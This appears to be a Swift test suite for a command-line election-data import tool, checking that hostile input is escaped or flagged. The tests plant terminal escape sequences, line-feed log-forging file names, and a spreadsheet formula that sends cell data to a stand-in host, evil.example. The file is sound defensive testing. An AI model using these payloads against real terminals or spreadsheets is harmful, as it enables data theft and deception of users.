import Foundation
import Testing

/// Text from a hostile file that reaches the user's terminal or spreadsheet.
@Suite struct TerminalAndFormulaTests {
    /// The MG sample's header and first two rows with one more column, named with escape sequences.
    static func escapedHeader(_ dir: URL) throws -> String {
        let sample = try String(
            contentsOf: Hostile.sampleData.appendingPathComponent("consulta_cand_2018_MG.csv"), encoding: .isoLatin1)
        let lines = sample.split(separator: "\n", omittingEmptySubsequences: false).prefix(3).map(String.init)
        let evil = "NOVA\u{1B}]0;PWNED\u{07}\u{1B}[2J\u{9B}31m"
        let text = lines[0] + ";\"\(evil)\"\n" + lines[1] + ";\"x\"\n" + lines[2] + ";\"x\"\n"
        try Data(text.utf8).write(to: dir.appendingPathComponent("evil.csv"))
        return "evil.csv"
    }

    @Test("An escape sequence in a header column's name never reaches the terminal: shown as \\x1B")
    func escapesInWarnings() throws {
        let dir = try Hostile.folder()
        let file = try Self.escapedHeader(dir)
        let r = try Hostile.urna(["import", "--db", "e.sqlite", "--encoding", "utf8", file], in: dir)
        #expect(r.code == 0, "\(r.stderr)")
        // It printed ESC ] 0 ; ... BEL (retitles the window) and ESC [ 2 J (clears the screen) as they were.
        for output in [r.stdout, r.stderr] {
            #expect(!output.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x9B })
        }
        #expect(r.stdout.contains("column NOVA\\x1B]0;PWNED\\x07\\x1B[2J\\x9B31M"), "\(r.stdout)")
    }

    @Test("A planted row that begins like a formula is kept byte for byte in the rejects file, and warned of")
    func formulaInRejects() throws {
        let dir = try Hostile.folder()
        let sample = try String(
            contentsOf: Hostile.sampleData.appendingPathComponent("consulta_cand_2018_MG.csv"), encoding: .isoLatin1)
        let lines = sample.split(separator: "\n").prefix(2).map(String.init)
        let planted = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")"
        try Data((lines + [planted, "\"a\";\"b\""]).joined(separator: "\n").utf8 + [0x0A])
            .write(to: dir.appendingPathComponent("f.csv"))
        let r = try Hostile.urna(["import", "--db", "f.sqlite", "f.csv"], in: dir)
        #expect(r.code == 0, "\(r.stderr)")
        let rejects = String(decoding: Hostile.bytes(dir, "f.sqlite.rejects.csv") ?? Data(), as: UTF8.self)
        #expect(rejects.contains("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\""))
        #expect(
            r.stdout.contains(
                "warning: f.sqlite.rejects.csv: 1 cell begins like a spreadsheet formula (first: line 3, column original)"
            ),
            "\(r.stdout)")
        // A rejects file without such cells says nothing of formulas.
        try Data((lines + ["\"a\";\"b\""]).joined(separator: "\n").utf8 + [0x0A])
            .write(to: dir.appendingPathComponent("g.csv"))
        let quiet = try Hostile.urna(["import", "--db", "g.sqlite", "g.csv"], in: dir)
        #expect(quiet.code == 0, "\(quiet.stderr)")
        #expect(!quiet.stdout.contains("formula"), "\(quiet.stdout)")
    }
}

/// Text a hostile database file or a path carries into urna's own report lines on standard output.
@Suite struct ReportLineEscapeTests {
    static let evil = "\u{1B}]0;PWNED\u{07}\u{1B}[2J"

    static func noEscapes(_ r: RunResult) {
        for output in [r.stdout, r.stderr] {
            #expect(!output.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 }, "\(output)")
        }
    }

    @Test("status of a file whose recorded family holds escape sequences prints them as \\x1B")
    func statusFamily() throws {
        let dir = try Hostile.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        let db = try Hostile.importedDatabase(in: dir)
        let path = dir.appendingPathComponent(db).path
        try Hostile.sql(
            path,
            """
            UPDATE _urna_schema SET family = '\(Self.evil)elections',
              descriptor = replace(descriptor, '"family" : "elections"', '"family" : "\\u001b]0;PWNED\\u0007\\u001b[2Jelections"')
            """)
        let r = try Hostile.urna(["status", "--db", db], in: dir)
        // It printed "family:   ESC]0;PWNED BEL ESC[2J elections" twice: the window retitled, the screen cleared.
        #expect(r.code == 0, "\(r.stderr)")
        #expect(
            r.stdout.contains("family:   \\x1B]0;PWNED\\x07\\x1B[2Jelections (family unknown to urna)"), "\(r.stdout)")
        Self.noEscapes(r)
    }

    @Test("status prints a file's recorded family on one line: a line feed in it forges no line of its own")
    func statusFamilyLineFeed() throws {
        let dir = try Hostile.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        let db = try Hostile.importedDatabase(in: dir)
        try Hostile.sql(
            dir.appendingPathComponent(db).path,
            """
            UPDATE _urna_schema SET family = 'elections' || char(10) || 'pending:  none',
              descriptor = replace(descriptor, '"family" : "elections"', '"family" : "elections\\npending:  none"')
            """)
        let r = try Hostile.urna(["status", "--db", db], in: dir)
        #expect(r.code == 0, "\(r.stderr)")
        #expect(!r.stdout.contains("\npending:  none\n"), "\(r.stdout)")
        #expect(r.stdout.contains("family:   elections\\x0Apending:  none"), "\(r.stdout)")
    }

    @Test("export's summary names an --out path holding escape sequences with them escaped")
    func exportOutPath() throws {
        let dir = try Hostile.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        let db = try Hostile.importedDatabase(in: dir)
        let out = "out\(Self.evil).csv"
        let r = try Hostile.urna(["export", "--db", db, "--format", "csv", "--out", out], in: dir)
        #expect(r.code == 0, "\(r.stderr)")
        #expect(r.stdout.contains("to out\\x1B]0;PWNED\\x07\\x1B[2J.csv"), "\(r.stdout)")
        #expect(FileManager.default.fileExists(atPath: dir.appendingPathComponent(out).path))
        Self.noEscapes(r)
    }

    @Test("A zip member or a folder's file named with a line feed gives one warning line, not a forged second one")
    func lineFeedInNames() throws {
        let dir = try Hostile.folder()
        defer { try? FileManager.default.removeItem(at: dir) }
        let sample = try Data(contentsOf: Hostile.sampleData.appendingPathComponent("consulta_cand_2018_MG.csv"))
        let head = Array(
            sample.split(separator: 0x0A, omittingEmptySubsequences: false).prefix(20).joined(separator: [0x0A]))
        let forged = "notes\nrows: 5000 inserted, every file imported cleanly.doc"
        try ZipBomb.archive([
            ZipBomb.member("consulta_cand_2018_MG.csv", head + [0x0A]), ZipBomb.member(forged, [1, 2, 3]),
        ])
        .write(to: dir.appendingPathComponent("evil.zip"))
        let r = try Hostile.urna(["import", "--db", "z.sqlite", "evil.zip"], in: dir)
        #expect(r.code == 0, "\(r.stderr)")
        // It printed "warning: evil.zip: member notes" and then a line of its own: "rows: 5000 inserted, ...".
        #expect(r.stdout.contains("warning: evil.zip: member notes\\x0Arows: 5000 inserted"), "\(r.stdout)")
        #expect(!(r.stdout + r.stderr).contains("\nrows: 5000"), "\(r.stdout)")

        let folder = dir.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try Data("%PDF-1.4".utf8).write(to: folder.appendingPathComponent("x\nwarning: nothing else was skipped.pdf"))
        try Data(head + [0x0A]).write(to: folder.appendingPathComponent("consulta_cand_2018_MG.csv"))
        let d = try Hostile.urna(["import", "--db", "d.sqlite", "in"], in: dir)
        #expect(d.code == 0, "\(d.stderr)")
        #expect(
            d.stderr.contains("warning: skipped in/x\\x0Awarning: nothing else was skipped.pdf: a PDF"), "\(d.stderr)")
        #expect(!d.stderr.contains("\nwarning: nothing else"), "\(d.stderr)")
    }
}
